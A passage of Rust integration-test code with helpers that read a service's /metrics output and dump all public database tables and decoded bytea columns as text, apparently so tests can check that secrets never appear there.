    assert_eq!(tally.applied, tally.events, "{tally:#?}");
    all_answers.extend(answers);
}

// ---------------------------------------------------------------------------------------
// secrets

/// `/metrics` as the stats token reads it.
async fn metrics(app: &TestApp) -> String {
    let response = app
        .client
        .get(app.url("/metrics"))
        .bearer_auth(TOKEN)
        .send()
        .await
        .expect("/metrics answers");
    assert_eq!(response.status().as_u16(), 200);
    response.text().await.expect("the metrics text")
}

/// Every row of every table of the public schema as text, then every `bytea` value decoded
/// as UTF-8 (as text a `bytea` is hex, which would hide a secret).
async fn database_text(db: &tokio_postgres::Client) -> String {
    let mut text = String::new();
    let tables = db
        .query(
            "SELECT table_name::text FROM information_schema.tables WHERE table_schema = 'public'",
            &[],
        )
        .await
        .expect("listing tables");
    for table in &tables {
        let name: &str = table.get(0);
        for row in db
            .query(&format!("SELECT t::text FROM {name} t"), &[])
            .await
            .unwrap()
        {
            text.push_str(row.get::<_, &str>(0));
            text.push('\n');
        }
    }
    let columns = db
        .query(
            "SELECT table_name::text, column_name::text FROM information_schema.columns
             WHERE table_schema = 'public' AND data_type = 'bytea'",
            &[],
        )
        .await
        .expect("listing bytea columns");
    for column in &columns {
        let (table, name): (&str, &str) = (column.get(0), column.get(1));
        for row in db
            .query(
                &format!("SELECT {name} FROM {table} WHERE {name} IS NOT NULL"),
                &[],
            )
            .await
            .unwrap()
        {
            text.push_str(&String::from_utf8_lossy(row.get::<_, &[u8]>(0)));
            text.push('\n');
        }
    }
    text
}
